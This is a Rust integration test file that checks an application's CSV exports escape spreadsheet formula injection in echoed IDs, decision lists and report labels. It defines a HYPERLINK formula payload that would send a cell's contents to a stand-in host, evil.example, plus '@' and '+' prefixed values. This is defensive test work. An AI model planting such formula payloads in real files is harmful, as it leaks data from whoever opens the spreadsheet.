//! Every CSV Drom writes neutralises the cells a spreadsheet would run as a formula: the batch
//! screening's echo of a host country's ids, a kept list's decisions, and the period report's
//! labels from reference data an administrator typed. Drom's own numbers are written as they are.

use crate::both_backends;
use crate::helpers::{TestApp, person_json};
use crate::pages::sign_in;
use crate::returns::{consent, open_case, sheet, step};
use crate::screening_lists::{done, upload};
use reqwest::StatusCode;
use serde_json::json;

const EVIL_ID: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"B1\")";

fn records(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.as_bytes()).records().map(Result::unwrap).collect()
}

async fn host_country_ids_are_written_as_text(app: &TestApp) {
    let quoted = format!("\"{}\"", EVIL_ID.replace('"', "\"\""));
    let list = crate::screen::list().replace("B1,,head,Arben", &format!("{quoted},-H9,head,Arben"));

    // Screened and answered at once: the echoed ids are marked, the decision is the same.
    let r = app
        .client
        .post(format!("{}/api/v1/screenings/batch?as_of=2007-01-01", app.addr))
        .bearer_auth(app.token("caseworker"))
        .header("content-type", "text/csv")
        .body(list.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let out = records(&r.text().await.unwrap());
    let arben = out.iter().find(|r| r[0].contains("HYPERLINK")).expect("the row is echoed");
    assert_eq!((&arben[0], &arben[1]), (format!("'{EVIL_ID}").as_str(), "'-H9"));
    assert_eq!(&arben[2], "no_bar_found");
    assert!(out.iter().all(|r| !r.iter().any(|cell| cell.starts_with(['=', '+', '-', '@']))), "{out:?}");

    // Kept for the agency: the ids as the host country wrote them, marked again in the file.
    let (s, v) = upload(app, "caseworker", &list).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    let id = v["id"].as_i64().unwrap();
    assert_eq!(done(app, id).await["status"], "done");
    let (_, rows) = app.get("caseworker", &format!("/api/v1/screening-lists/{id}/rows?household_id=-H9")).await;
    assert_eq!(rows["items"][0]["request_id"], EVIL_ID, "{rows}");
    let (c, _) = sign_in(app, "caseworker").await;
    let r = c.get(format!("{}/screenings/lists/{id}/decisions.csv", app.addr)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let file = records(&r.text().await.unwrap());
    let arben = file.iter().find(|r| &r[3] == "Arben").unwrap();
    assert_eq!((&arben[1], &arben[2]), (format!("'{EVIL_ID}").as_str(), "'-H9"));
}
both_backends!(host_country_ids_are_written_as_text);

async fn report_labels_are_written_as_text(app: &TestApp) {
    // One case's counts must show as numbers here: no small-cell threshold.
    app.db.set_small_cell_threshold(1);
    // An administrator's municipality whose names and district a spreadsheet would run.
    let (s, m) = app
        .post(
            "sysadmin",
            "/api/v1/municipalities",
            json!({"name_sq": EVIL_ID, "name_sr": "@Zlo", "district": "+Prizren", "majority_community": "albanian"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{m}");
    let code = m["code"].as_str().unwrap().to_string();
    sheet(app, &code).await;
    let person = app.person("caseworker", person_json("Mirlinda", "Kastrati")).await;
    let case = open_case(
        app,
        json!({"person_id": person, "return_type": "voluntary", "host_country": "DE",
               "destination_municipality": code, "registered_on": "2024-10-01", "entered_from_paper": true}),
    )
    .await;
    let id = case["id"].as_i64().unwrap();
    step(app, id, "counselling", json!({"held_on": "2024-10-02", "language": "sq", "topics": ["housing"]})).await;
    step(app, id, "consent", consent("2024-10-03")).await;
    step(
        app,
        id,
        "travel",
        json!({"transport": "air", "route": "Munich - Prishtinë", "departure_on": "2024-11-05",
               "destination_municipality": code}),
    )
    .await;
    step(app, id, "arrival", json!({"arrived_on": "2024-11-05"})).await;

    let r = app
        .client
        .get(format!("{}/api/v1/reports/returns?from=2024-11-01&to=2024-11-30&format=csv", app.addr))
        .bearer_auth(app.token("caseworker"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let report = records(&r.text().await.unwrap());
    let line = |section: &str| report.iter().find(|r| &r[0] == section).unwrap_or_else(|| panic!("{section}"));
    let municipality = line("municipality");
    assert_eq!(&municipality[2], format!("'{EVIL_ID}/@Zlo"));
    assert_eq!((&municipality[3], &municipality[4]), ("1", "1"), "counts stay numbers");
    let district = line("district");
    assert_eq!((&district[1], &district[2]), ("'+Prizren", "'+Prizren"));
    assert!(report.iter().all(|r| !r.iter().any(|cell| cell.starts_with(['=', '+', '-', '@']))), "{report:?}");
}
both_backends!(report_labels_are_written_as_text);
